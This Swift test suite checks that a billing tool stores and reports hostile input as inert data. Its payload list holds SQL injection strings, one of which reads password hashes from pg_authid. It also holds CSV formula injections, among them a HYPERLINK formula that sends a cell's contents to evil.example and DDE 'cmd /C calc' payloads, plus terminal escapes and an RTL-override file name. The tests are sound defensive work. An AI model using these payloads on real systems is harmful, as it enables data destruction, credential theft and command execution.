import BillingCore
import BillingJobs
import Foundation
import Postgres
import TestSupport
import Testing

/// Names, descriptions, ticket subjects, notes, time zones, currencies and conninfo strings
/// carrying SQL, shell, spreadsheet and terminal payloads are stored and reported as data:
/// through the jobs (run as supportbill_runner) and every report format.
@Suite("Hostile input never becomes SQL, a formula or a terminal command")
struct HostileInputTests {
    static let payloads = [
        "Robert'); DROP TABLE customers; --",
        "x\"; DELETE FROM invoices; --",
        "$$; DROP TABLE invoices; $$",
        "$1 $2 \\x27 E'\\\\' \\",
        "/* comment */ -- comment",
        "semi;colon; 'single' \"double\" back\\slash",
        "') UNION SELECT rolpassword FROM pg_authid --",
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "line one\nline two",
        "\u{1b}[2J\u{1b}[31mterminal",
        "bell\u{07} and backspace\u{08}\u{7F} and C1\u{9B}31m",
        "right-to-left \u{202E}fdp.exe",
        "ünïcödé 請求書 💸",
    ]
    static let zone = "UTC'; DROP TABLE customers; --"

    /// A minimal RFC 4180 reader: rows of cells.
    static func csvRows(_ text: String) -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var cell = ""
        var quoted = false
        var index = text.unicodeScalars.startIndex
        let scalars = text.unicodeScalars
        while index < scalars.endIndex {
            let c = scalars[index]
            if quoted {
                if c == "\"" {
                    let next = scalars.index(after: index)
                    if next < scalars.endIndex, scalars[next] == "\"" { cell.unicodeScalars.append("\""); index = next } else { quoted = false }
                } else {
                    cell.unicodeScalars.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                row.append(cell); cell = ""
            } else if c == "\n" {
                row.append(cell); rows.append(row); row = []; cell = ""
            } else {
                cell.unicodeScalars.append(c)
            }
            index = scalars.index(after: index)
        }
        if !cell.isEmpty || !row.isEmpty { row.append(cell); rows.append(row) }
        return rows
    }

    /// No cell a spreadsheet would run: a formula character first means a number, or the `'`
    /// CSVReport puts in front (and the rest of the cell is the text as stored, its control
    /// characters but tab, newline and carriage return written as `\u{XX}`). No raw ESC, BEL or
    /// other control byte reaches the file.
    static func expectInert(_ csv: String, containing expected: [String], _ comment: Comment) {
        #expect(!csv.unicodeScalars.contains { TextSafety.isUnsafe($0) && !["\t", "\n", "\r"].contains($0) },
                "raw control character in \(comment)")
        let expected = expected.map { TextSafety.printable($0, keeping: ["\t", "\n", "\r"]) }
        let cells = csvRows(csv).flatMap { $0 }
        for cell in cells {
            guard let first = cell.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first) else { continue }
            #expect(Int64(cell) != nil || ExactDecimal(cell) != nil, "live formula cell \(cell.debugDescription) in \(comment)")
        }
        for text in expected {
            let stored = "=+-@\t\r".unicodeScalars.contains(text.unicodeScalars.first ?? " ") ? "'" + text : text
            #expect(cells.contains { $0 == stored || $0.hasPrefix(stored) || $0.contains(text) }, "\(text.debugDescription) in \(comment)")
        }
    }

    @Test("payloads in names, plans, subjects, notes and a time zone: stored verbatim, billed, reported inert in text, JSON and CSV")
    func throughTheJobs() throws {
        let database = try TestCluster.makeDatabase()
        defer { database.drop() }
        let db = try database.connect()
        defer { db.close() }
        let f = Fixtures(db)
        var customers: [Int64] = []
        var tickets: [Int64: String] = [:]
        for (index, payload) in Self.payloads.enumerated() {
            let customer = try f.customer(payload)
            let plan = try db.query("""
                INSERT INTO plans (code, name, billing) VALUES ($1, $2, 'recurring') RETURNING id
                """, ["hostile-\(index)-" + payload, payload]).scalar(Int64.self) ?? 0
            try f.price(plan: plan, recurringFee: 1000 + Int64(index))
            try f.service(customer: customer, plan: plan, startsOn: "2026-10-01")
            let ticket = try f.ticket(customer: customer, subject: payload, openedAt: "2026-10-12T09:00:00Z")
            try db.execute("""
                INSERT INTO time_entries (customer_id, ticket_id, worked_at, minutes, staff, note)
                VALUES ($1, $2, '2026-10-12T10:00:00Z', 30, $3, $3)
                """, [customer, ticket, payload])
            customers.append(customer)
            tickets[ticket] = payload
        }
        let lost = try f.customer("Zone", timezone: Self.zone)
        let lostTicket = try f.ticket(customer: lost, openedAt: "2026-10-12T09:00:00Z")
        try f.entry(customer: lost, ticket: lostTicket, workedAt: "2026-10-12T10:00:00Z", minutes: 30)

        let jobs = NSTemporaryDirectory() + "/hostile-jobs-\(getpid())-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: jobs, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: jobs) }
        try "[per_incident_price]\nUSD = 2500\n".write(toFile: jobs + "/contract-expiry-rollover.toml", atomically: true, encoding: .utf8)
        let conninfo = database.runnerConninfo
        let contract = ["run", "contract-expiry-rollover", "--as-of", "2026-10-31T00:15:00Z", "--jobs-dir", jobs, "--database", conninfo]
        let rollup = ["run", "monthly-rollup", "--period", "2026-10", "--as-of", "2026-11-01T14:00:00Z", "--database", conninfo]

        // Per-incident items carry the ticket subjects; the zone's customer is skipped, quoted.
        let contractCSV = try ChildProcess.supportbill(contract + ["--dry-run", "--format", "csv"])
        #expect(contractCSV.status == 65, "\(contractCSV.stderr)")
        Self.expectInert(contractCSV.stdout, containing: Self.payloads.filter { !$0.contains("\r") }, "contract CSV")
        let contractRun = try ChildProcess.supportbill(contract + ["--format", "json"])
        #expect(contractRun.status == 65)
        let contractReport = try JSONValue(parsing: contractRun.stdout)
        let items = contractReport["items"]?.arrayValue ?? []
        #expect(items.count == Self.payloads.count)
        for item in items {
            let ticket = item["source_key"]?.stringValue.flatMap { Int64($0.split(separator: ":").last ?? "") } ?? 0
            #expect(item["description"]?.stringValue == "Per-incident support: ticket #\(ticket) \(tickets[ticket] ?? "?")")
        }
        #expect(contractReport["skipped"] == .array([.object([
            ("customer_id", .int(lost)),
            ("reason", .string("unknown time zone \(Self.zone.debugDescription) (expected an IANA name such as Europe/Berlin)")),
        ])]))

        // The rollup: fee lines named after the plans, per-incident items attached.
        let rollupCSV = try ChildProcess.supportbill(rollup + ["--dry-run", "--format", "csv"])
        #expect(rollupCSV.status == 0, "\(rollupCSV.stderr)")
        Self.expectInert(rollupCSV.stdout, containing: Self.payloads.filter { !$0.contains("\r") }, "rollup CSV")
        let rollupText = try ChildProcess.supportbill(rollup + ["--dry-run"])
        #expect(rollupText.status == 0)
        #expect(!rollupText.stdout.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x202E || $0 == "\r" || $0 == "\t" })
        #expect(rollupText.stdout.contains("\\u{1B}[2J\\u{1B}[31mterminal"))
        #expect(rollupText.stdout.contains("line one\\u{A}line two"))
        #expect(!rollupText.stdout.contains("line one\nline two"))
        let rollupRun = try ChildProcess.supportbill(rollup + ["--format", "json"])
        #expect(rollupRun.status == 0, "\(rollupRun.stderr)")
        let invoices = try JSONValue(parsing: rollupRun.stdout)["invoices"]?.arrayValue ?? []
        #expect(invoices.count == Self.payloads.count)
        for (index, payload) in Self.payloads.enumerated() {
            let invoice = invoices.first { $0["customer_id"]?.intValue == customers[index] }
            #expect(invoice?["total"]?.intValue == 1000 + Int64(index) + 2500, "\(payload.debugDescription)")
            let descriptions = invoice?["items"]?.arrayValue?.compactMap { $0["description"]?.stringValue } ?? []
            #expect(descriptions.contains("\(payload), 2026-10-01..2026-10-31"), "\(descriptions)")
        }

        // check: the zone is named as stored.
        let check = try ChildProcess.supportbill(["check", "--as-of", "2026-11-01", "--format", "json", "--database", conninfo])
        #expect(check.status == 65)
        let defects = try JSONValue(parsing: check.stdout)["defects"]?.arrayValue ?? []
        #expect(defects.map { $0["kind"]?.stringValue ?? "" } == ["unknown_time_zone"])
        #expect(defects.first?["detail"]?.stringValue?.contains(Self.zone.debugDescription) == true)

        // The usage report and the contracts view show names, subjects and notes as data.
        for (index, payload) in Self.payloads.enumerated() {
            let customer = String(customers[index])
            let json = try ChildProcess.supportbill(["report", "usage", "--customer", customer, "--period", "2026-10", "--format", "json", "--database", conninfo])
            #expect(json.status == 0, "\(json.stderr)")
            #expect(json.stdout.contains(JSONValue.string(payload).compactText), "usage JSON of \(payload.debugDescription)")
            let csv = try ChildProcess.supportbill(["report", "usage", "--customer", customer, "--period", "2026-10", "--format", "csv", "--database", conninfo])
            Self.expectInert(csv.stdout, containing: payload.contains("\r") ? [] : [payload], "usage CSV")
            let text = try ChildProcess.supportbill(["report", "usage", "--customer", customer, "--period", "2026-10", "--database", conninfo])
            #expect(!text.stdout.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x202E || $0 == "\r" || $0 == "\t" })
            let contracts = try ChildProcess.supportbill(["contracts", "--customer", customer, "--database", conninfo])
            #expect(contracts.status == 0)
            #expect(!contracts.stdout.unicodeScalars.contains { $0.value == 0x1B || $0.value == 0x202E || $0 == "\r" || $0 == "\t" })
        }

        // Nothing ran as SQL: every table is there, every value reads back as it was written.
        for table in ["customers", "invoices", "billable_items", "plans", "tickets", "time_entries"] {
            #expect(try db.query("SELECT to_regclass($1) IS NOT NULL", [table]).scalar(Bool.self) == true)
        }
        let names = try db.query("SELECT name FROM customers WHERE id = ANY($1) ORDER BY id", [customers]).map { try $0.decode(0, as: String.self) }
        #expect(names == Self.payloads)
        let notes = try db.query("SELECT note FROM time_entries WHERE customer_id = ANY($1) ORDER BY customer_id", [customers]).map { try $0.decode(0, as: String.self) }
        #expect(notes == Self.payloads)
        #expect(try db.query("SELECT timezone FROM customers WHERE id = $1", [lost]).scalar(String.self) == Self.zone)
        #expect(try db.query("SELECT count(*) FROM invoices").scalar(Int.self) == Self.payloads.count)
    }

    @Test("hostile currency codes are refused by the schema and by jobs/*.toml")
    func currencies() throws {
        let database = try TestCluster.makeDatabase()
        defer { database.drop() }
        let db = try database.connect()
        defer { db.close() }
        for code in ["US'D", "U$D", "USD; DROP TABLE currencies", "usd", "$$"] {
            #expect(throws: PostgresError.self, "\(code)") {
                try db.execute("INSERT INTO currencies (code, minor_units) VALUES ($1, 2)", [code])
            }
            #expect(throws: PostgresError.self, "\(code)") {
                try db.execute("INSERT INTO customers (name, currency) VALUES ('x', $1)", [code])
            }
        }
        #expect(try db.query("SELECT count(*) FROM currencies WHERE code !~ '^[A-Z]{3}$'").scalar(Int.self) == 0)

        let jobs = NSTemporaryDirectory() + "/hostile-currency-\(getpid())-\(UUID().uuidString)"
        try FileManager.default.createDirectory(atPath: jobs, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: jobs) }
        try "[per_incident_price]\n\"US'D; DROP TABLE customers\" = 1\n".write(toFile: jobs + "/contract-expiry-rollover.toml", atomically: true, encoding: .utf8)
        let result = try ChildProcess.supportbill(["run", "contract-expiry-rollover", "--jobs-dir", jobs, "--database", database.conninfo])
        #expect(result.status == 64, "\(result.stderr)")
        #expect(result.stderr.contains("contract-expiry-rollover.toml"))
        #expect(try db.query("SELECT to_regclass('customers') IS NOT NULL").scalar(Bool.self) == true)
    }

    @Test("invalid or hostile conninfo strings fail cleanly: a usage error, or a failed connection, and nothing runs", arguments: [
        ("host=/tmp dbname='x'; DROP TABLE customers; --", 64),
        ("postgresql://billing:p%ZZ-Secr3t@localhost/support", 64),
        ("postgresql://billing:Secr3t@[::1/support", 64),
        ("host=/nonexistent dbname=support password='unterminated", 64),
        ("service=nothing-such password=Secr3t", 69),
        ("host=/nonexistent/socket dbname='support; DROP TABLE customers' password=Secr3t connect_timeout=2", 69),
    ] as [(String, Int32)])
    func conninfo(conninfo: String, status: Int32) throws {
        for command in [["runs"], ["check"], ["run", "threshold-topup"], ["migrate"]] {
            let result = try ChildProcess.supportbill(command + ["--database", conninfo])
            #expect(result.status == status, "\(command): \(result.stderr)")
            #expect(!result.stderr.contains("Secr3t") && !result.stdout.contains("Secr3t"), "\(command): \(result.stderr)")
            #expect(result.stderr.contains("--database is not a valid conninfo") == (status == 64), "\(command): \(result.stderr)")
        }
    }
}
